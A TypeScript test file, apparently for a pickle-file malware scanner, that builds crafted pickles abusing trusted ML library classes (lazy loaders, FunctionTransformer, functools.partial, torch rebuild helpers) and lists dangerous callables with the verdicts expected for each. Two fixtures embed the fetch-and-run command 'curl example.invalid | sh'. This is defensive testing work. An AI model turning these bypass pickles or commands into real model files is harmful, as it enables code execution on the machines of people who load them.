/** Names of packages that belong in models, and what an attacker can still make of them. */
import { pickle, type PickleAssembler } from '../../support/pickle-assembler.js';
import { bypass, callCases, type BypassCase, type Expectation } from '../bypass-case.js';

const p = (): PickleAssembler => pickle().proto(4);
const dangerous = (name: string): Expectation => ['critical', 'pickle/dangerous-call', name];
const library = (name: string): Expectation => ['critical', 'pickle/library-call', name];

/** `module.name.__new__` with a state of one entry: restored without `__init__`. */
const restored = (module: string, name: string, key: string, value: string): PickleAssembler =>
  p()
    .stackGlobal(module, name)
    .emptyTuple()
    .newobj()
    .emptyDict()
    .short(key)
    .short(value)
    .setitem()
    .build()
    .stop();

/** A FunctionTransformer whose function is what `push` leaves. */
const transformer = (push: (assembler: PickleAssembler) => PickleAssembler): PickleAssembler =>
  push(
    p()
      .stackGlobal('sklearn.preprocessing._function_transformer', 'FunctionTransformer')
      .emptyTuple()
      .newobj()
      .emptyDict()
      .short('func'),
  )
    .setitem()
    .build()
    .stop();

const called = (module: string, name: string, argument: string): PickleAssembler =>
  p().stackGlobal(module, name).short(argument).tuple1().reduce().stop();

const lazy: readonly (readonly [module: string, name: string, key: string])[] = [
  ['xgboost.compat', 'LazyLoader', '_module_name'],
  ['trl._lazy_module', '_LazyModule', '_name'],
  ['diffusers.utils.import_utils', '_LazyModule', '_name'],
  ['nltk.lazyimport', 'LazyModule', '__lazymodule_name'],
  ['lightning_utilities.core.imports', 'LazyModule', '_module_name'],
];
const unpickling: readonly (readonly [module: string, name: string])[] = [
  ['gymnasium.vector.utils.misc', 'CloudpickleWrapper'],
  ['gym.vector.utils.misc', 'CloudpickleWrapper'],
  ['stable_baselines3.common.vec_env.base_vec_env', 'CloudpickleWrapper'],
  ['torch.utils.data.datapipes.datapipe', '_MapDataPipeSerializationWrapper'],
];
const opening: readonly (readonly [module: string, name: string])[] = [
  ['numpy', 'memmap'],
  ['joblib.logger', 'PrintTime'],
  ['nltk.corpus.reader.plaintext', 'PlaintextCorpusReader'],
  ['torchvision.datasets.mnist', 'MNIST'],
  ['torchvision.datasets.folder', 'ImageFolder'],
  ['torch.utils.tensorboard.writer', 'SummaryWriter'],
  ['lightning.pytorch.loggers.csv_logs', 'CSVLogger'],
  ['transformers.models.bert.tokenization_bert', 'BertTokenizer'],
  ['open_clip.tokenizer', 'HFTokenizer'],
  ['gensim.corpora.textcorpus', 'TextCorpus'],
];

export const vettedPackages: readonly BypassCase[] = [
  ...lazy.map(([module, name, key]) =>
    bypass(
      'P-08',
      `a \`${name}\` of ${module.split('.')[0] ?? ''} imports the module that its state names`,
      dangerous(`${module}.${name}`),
      restored(module, name, key, 'os'),
    ),
  ),
  ...unpickling.map(([module, name]) =>
    bypass(
      'P-08',
      `\`${module}.${name}\` unpickles its state`,
      dangerous(`${module}.${name}`),
      p().stackGlobal(module, name).emptyTuple().newobj().bytes(Buffer.from('N.')).build().stop(),
    ),
  ),
  ...opening.map(([module, name]) =>
    bypass(
      'G-31',
      `\`${module}.${name}\` opens what it is given`,
      /^(?:torch|torchvision\.datasets|nltk\.corpus)\./.test(module)
        ? dangerous(`${module}.${name}`)
        : library(`${module}.${name}`),
      called(module, name, 'model'),
    ),
  ),
  bypass(
    'P-29',
    'a method that writes files is the function of a FunctionTransformer',
    ['critical', 'pickle/dangerous-call', 'pandas.core.frame.DataFrame.to_csv'],
    transformer((a) => a.stackGlobal('pandas.core.frame', 'DataFrame.to_csv')),
  ),
  bypass(
    'P-29',
    'a methodcaller that writes files is the function of a FunctionTransformer',
    ['critical', 'pickle/unexpected-arguments', 'operator.methodcaller'],
    transformer((a) =>
      a.stackGlobal('operator', 'methodcaller').short('to_csv').short('x.csv').tuple2().reduce(),
    ),
  ),
  bypass(
    'P-29',
    'a methodcaller with a command for its argument',
    ['critical', 'pickle/unexpected-arguments', 'operator.methodcaller'],
    transformer((a) =>
      a
        .stackGlobal('operator', 'methodcaller')
        .short('transform')
        .short('curl example.invalid | sh')
        .tuple2()
        .reduce(),
    ),
  ),
  bypass(
    'P-29',
    'an attrgetter that leads to the globals of a function',
    ['critical', 'pickle/unexpected-arguments', 'operator.attrgetter'],
    transformer((a) =>
      a.stackGlobal('operator', 'attrgetter').short('__init__.__globals__').tuple1().reduce(),
    ),
  ),
  bypass(
    'P-29',
    'a partial that will open a file of its state',
    library('numpy.memmap'),
    transformer((a) =>
      a.stackGlobal('functools', 'partial').stackGlobal('numpy', 'memmap').short('x').tuple2().reduce(),
    ),
  ),
  bypass(
    'P-29',
    'a partial whose state is the call of a class that downloads',
    ['critical', 'pickle/patched-object', 'functools.partial'],
    transformer((a) =>
      a
        .stackGlobal('functools', 'partial')
        .stackGlobal('sentence_transformers', 'SentenceTransformer')
        .tuple1()
        .reduce()
        .mark()
        .stackGlobal('sentence_transformers', 'SentenceTransformer')
        .short('owner/model')
        .tuple1()
        .emptyDict()
        .none()
        .tuple()
        .build(),
    ),
  ),
  bypass(
    'P-27',
    'type() builds a class',
    ['critical', 'pickle/unexpected-arguments', 'builtins.type'],
    p().stackGlobal('builtins', 'type').short('X').emptyTuple().emptyDict().tuple3().reduce().stop(),
  ),
  bypass(
    'P-27',
    'a tensor subclass is rebuilt by a codec',
    ['critical', 'pickle/unexpected-arguments', 'torch._tensor._rebuild_from_type_v2'],
    p()
      .stackGlobal('torch._tensor', '_rebuild_from_type_v2')
      .mark()
      .stackGlobal('_codecs', 'encode')
      .stackGlobal('torch', 'Tensor')
      .short('cbfvk')
      .short('rot13')
      .tuple2()
      .emptyDict()
      .tuple()
      .reduce()
      .stop(),
  ),
  ...(
    [
      ['ultralytics.nn.tasks', 'DetectionModel'],
      ['ultralytics.nn.modules.conv', 'Conv'],
      ['ultralytics.utils', 'IterableSimpleNamespace'],
      ['ultralytics.yolo.utils', 'IterableSimpleNamespace'],
      ['ultralytics.utils.loss', 'v8DetectionLoss'],
      ['diffusers.models.unets.unet_2d_condition', 'UNet2DConditionModel'],
      ['mmengine.logging.history_buffer', 'HistoryBuffer'],
      ['mmengine.config.config', 'ConfigDict'],
      ['detectron2.modeling.meta_arch.rcnn', 'GeneralizedRCNN'],
      ['fairseq.data.dictionary', 'Dictionary'],
      ['deepspeed.runtime.fp16.loss_scaler', 'LossScaler'],
      ['megatron.core.enums', 'ModelType'],
      ['fastai.vision.models.unet', 'DynamicUnet'],
      ['fastcore.foundation', 'L'],
      ['catboost.core', 'CatBoostClassifier'],
      ['stable_baselines3.common.policies', 'ActorCriticPolicy'],
    ] as const
  ).map(([module, name]) =>
    bypass(
      'G-32',
      `\`${module}.${name}\` is restored, as its package writes it`,
      ['silent', ''],
      restored(module, name, 'hidden', 'relu'),
    ),
  ),
  bypass(
    'P-24',
    '`__new__` of one class makes another',
    ['critical', 'pickle/library-call', 'sklearn.linear_model._logistic.LogisticRegression'],
    p()
      .stackGlobal('sklearn.linear_model._logistic', 'LogisticRegression.__new__')
      .stackGlobal('my_package', 'Net')
      .short('curl example.invalid | sh')
      .tuple2()
      .reduce()
      .stop(),
  ),
  bypass(
    'P-24',
    '`__new__` that protocols 2 and 3 write in a partial',
    ['silent', ''],
    p()
      .stackGlobal('functools', 'partial')
      .stackGlobal('sklearn.linear_model._logistic', 'LogisticRegression.__new__')
      .stackGlobal('sklearn.linear_model._logistic', 'LogisticRegression')
      .tuple2()
      .reduce()
      .emptyTuple()
      .reduce()
      .stop(),
  ),
  ...callCases('G-30', [
    ['hydra.utils', 'instantiate'],
    ['hydra.utils', 'get_method'],
    ['transformers.dynamic_module_utils', 'get_class_from_dynamic_module'],
    ['nltk.data', 'load'],
    ['joblib', 'load'],
    ['numpy', 'fromfile'],
    ['pandas', 'read_csv', 'https://example.invalid/x'],
    ['sklearn.datasets', 'fetch_openml'],
    ['torch.hub', 'load'],
    ['ultralytics.utils.downloads', 'safe_download', 'https://example.invalid/x'],
    ['ultralytics.utils.checks', 'check_requirements'],
    ['ultralytics.nn.tasks', 'torch_safe_load'],
    ['diffusers.utils.dynamic_modules_utils', 'get_class_from_dynamic_module'],
    ['deepspeed.launcher.runner', 'main'],
    ['mmengine.config.lazy', 'LazyObject'],
    ['mmcv.utils.ext_loader', 'load_ext'],
    ['detectron2.model_zoo.model_zoo', 'get'],
    ['fairseq.utils', 'import_user_module'],
    ['fastai.learner', 'load_learner'],
    ['fastcore.xtras', 'run'],
    ['megatron.core.dist_checkpointing.serialization', 'load'],
    ['pyarrow.lib', 'memory_map'],
    ['xgboost.tracker', 'RabitTracker'],
    ['numba.core.serialize', '_unpickle__CustomPickled'],
  ]),
  ...callCases('G-02', [
    ['logging.config', 'fileConfig'],
    ['distutils.spawn', 'spawn'],
    ['ensurepip', '_run_pip'],
    ['pydoc', 'pipepager'],
    ['timeit', 'timeit'],
    ['cProfile', 'run'],
    ['code', 'InteractiveInterpreter.runsource'],
    ['asyncio', 'create_subprocess_shell'],
    ['builtins', 'globals'],
    ['builtins', 'locals'],
    ['builtins', 'compile'],
  ]),
];
